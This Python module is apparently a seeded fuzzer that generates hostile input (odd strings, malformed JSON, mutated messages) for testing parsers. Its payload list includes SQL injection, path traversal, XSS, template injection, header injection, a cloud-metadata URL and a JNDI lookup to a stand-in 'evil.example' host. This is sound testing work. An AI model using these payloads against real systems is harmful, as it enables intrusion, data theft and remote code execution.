"""Makes hostile input from a seed: strings that break parsers, wrong shapes, valid messages bent out of shape."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Mapping
from copy import deepcopy
from typing import Any

NASTY = (
    "", " ", "\0", "\x1b[31m", "\u202eevil", "a\u0301" * 50, "\U0001f4a5" * 200, "\ufeff", "\ufdfd", "\ufeffnull",
    "\ud800", "\udfff\ud800x",
    "None", "NaN", "-1", "1e999", "9" * 400, "0x7fffffff", "true", "[]", "{}", "null", "'; DROP TABLE person;--",
    '" OR 1=1 --', "%s%n%x", "%00", "%ff%fe", "../../../etc/passwd", "..\\..\\x", "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/", "//evil.example", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "{{7*7}}", "{% raw %}", "${jndi:ldap://evil.example/a}", "<!channel> <@U1>",
    "&lt;!here&gt;", "\r\nSet-Cookie: intervision=x", "a\r\nX-Evil: 1", "javascript:alert(1)", "A" * 5000, "{name}",
    "{0.__class__}", "per_demo_a", "org_demo", "case.new", "text.confirm", "audit.open", "privacy.mine",
)  # fmt: skip


class Mischief:
    """One stream of hostile input; the same seed makes the same stream."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)

    def text(self) -> str:
        """A string that something may choke on."""
        r = self.random
        match r.randrange(6):
            case 0:
                return "".join(
                    chr(r.choice((r.randrange(1, 128), r.randrange(0x80, 0xD7FF)))) for _ in range(r.randrange(40))
                )
            case 1:
                return r.choice(NASTY) + r.choice(NASTY)
            case 2:
                return r.choice(NASTY) * r.randrange(1, 4)
            case _:
                return r.choice(NASTY)

    def value(self, depth: int = 0) -> Any:
        """Any JSON value."""
        r = self.random
        kinds = [
            self.text,
            lambda: r.randrange(-(2**70), 2**70),
            lambda: r.random() * 1e300,
            lambda: None,
            lambda: r.random() < 0.5,
        ]
        if depth < 4:
            kinds.append(lambda: [self.value(depth + 1) for _ in range(r.randrange(4))])
            kinds.append(lambda: {self.text()[:30]: self.value(depth + 1) for _ in range(r.randrange(4))})
        made: Callable[[], object] = r.choice(kinds)
        return made()

    def bent(self, message: Mapping[str, Any]) -> Any:
        """A valid message with one to three of its parts replaced, removed or added."""
        made: Any = deepcopy(dict(message))
        for _ in range(self.random.randrange(1, 4)):
            holder, key = self._place(made)
            match self.random.randrange(4):
                case 0 if isinstance(holder, dict):
                    holder.pop(key, None)
                case 1 if isinstance(holder, dict):
                    holder[self.text()[:40]] = self.value()
                case _:
                    holder[key] = self.value()
        return made

    def body(self, message: Mapping[str, Any]) -> bytes:
        """JSON that is mostly well formed, sometimes cut, damaged, deep or of another encoding."""
        r = self.random
        text = json.dumps(self.bent(message) if r.random() < 0.9 else self.value())
        match r.randrange(12):
            case 0:
                return text[: r.randrange(len(text) + 1)].encode()
            case 1:
                return b"[" * r.choice((10, 5_000, 200_000))
            case 2:
                return b'{"a":' * r.choice((10, 50_000)) + b"1"
            case 3:
                return text.encode("utf-16")
            case 4:
                return bytes(r.randrange(256) for _ in range(r.randrange(200)))
            case _:
                return text.encode(errors="surrogatepass")

    def _place(self, made: Any) -> tuple[Any, Any]:
        """Somewhere in a message: what holds it and under which key."""
        holder: Any = made
        while True:
            keys = list(holder) if isinstance(holder, dict) else list(range(len(holder)))
            if not keys:
                return (holder, "x") if isinstance(holder, dict) else (made, "x")
            key = self.random.choice(keys)
            below = holder[key]
            if not isinstance(below, dict | list) or not below or self.random.random() < 0.3:
                return holder, key
            holder = below
